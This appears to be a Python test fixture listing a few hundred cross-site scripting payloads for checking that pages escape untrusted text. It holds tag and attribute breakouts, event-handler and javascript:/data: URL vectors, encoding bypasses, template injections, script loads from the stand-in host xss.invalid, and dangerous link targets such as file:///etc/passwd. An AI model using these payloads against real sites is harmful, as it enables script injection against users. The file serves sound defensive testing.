"""Two hundred and more texts that run a script, load something from elsewhere or break out of their place, wherever a page fails to escape them.

Each says ``alert`` or asks ``xss.invalid`` for something. Sources: the OWASP cheat sheet, the HTML5 security cheat sheet, PortSwigger's list, and
what templates and tag filters are known to let through.
"""

ELSEWHERE = "//xss.invalid"
# What runs by itself once it stands in a page as markup.
VECTORS = (
    "<script>alert(1)</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<img src={ELSEWHERE}/pixel>",
    "<style>@import '//xss.invalid/a.css';</style>",
)
# What ends the place where the text stands: an attribute, an element whose content is no markup, a comment, a script.
ESCAPES = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "</mark>",
    '"/>',
    "`>",
    "</a></h2></bdi></li>",
    "]]>",
    "</option></select>",
)
SPECIAL = (
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="', "' onfocus=alert(1) autofocus tabindex=1 x='", "` onfocus=alert(1) autofocus `",
    "<mark onmouseover=alert(1)>x</mark>", "<mark><script>alert(1)</script></mark>", "<mark/onclick=alert(1)>", "<MARK><IMG SRC=x ONERROR=alert(1)></MARK>",
    "<mark</mark>><img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\ufe64img src=x onerror=alert(1)\ufe65",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script\x20type='text/javascript'>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img\tsrc=x\tonerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img src=x:x onerror=\u2028alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button autofocus>x</form>", "<button formaction=javascript:alert(1)>x", "<isindex action=j&Tab;a&Tab;v:alert(1)>",
    "<math><mtext></p><mglyph><svg><mtext></svg><img src=x onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<base href=//xss.invalid/>", "<meta http-equiv=refresh content='0;url=//xss.invalid/'>",
    "<meta http-equiv=Set-Cookie content=a=b>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<table background=javascript:alert(1)>",
    "<div style=background:url(//xss.invalid/a)>x</div>", "<div style=\"width:expression(alert(1))\">", "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'/></svg>", "<svg><script>alert&#40;1&#41;</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<embed src=javascript:alert(1)>", "<portal src=//xss.invalid>", "<object type=text/html data=//xss.invalid>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY x 'y'>]>&x;",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "{% raw %}<script>alert(1)</script>", "<%= alert(1) %>", "javascript:alert(1)", "javascript://%0aalert(1)",
    "'-alert(1)-'", '"-alert(1)-"', "\\'-alert(1)//", "</script><script>alert(1)</script>", "*/alert(1)/*", "`${alert(1)}`", "\u2028alert(1)//",
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([escape + vector for vector in VECTORS for escape in ESCAPES] + list(SPECIAL)))
# Addresses of documents that a link must never lead to.
URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "vbscript:x",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//xss.invalid/x", "/\\xss.invalid", "\\\\xss.invalid",
    "https:xss.invalid", "https://", "https://a@xss.invalid/", "blob:https://xss.invalid/1", "file:///etc/passwd", "javascript&colon;alert(1)", "feed:javascript:alert(1)",
    'https://docs.example.org/"onmouseover=alert(1) x="', "https://docs.example.org/'><img src=x onerror=alert(1)>", "https://docs.example.org/<script>alert(1)</script>",
    "view-source:javascript:alert(1)", "intent://x#Intent;scheme=javascript;end", "jar:javascript:alert(1)!/", "about:blank#<script>alert(1)</script>",
)  # fmt: skip
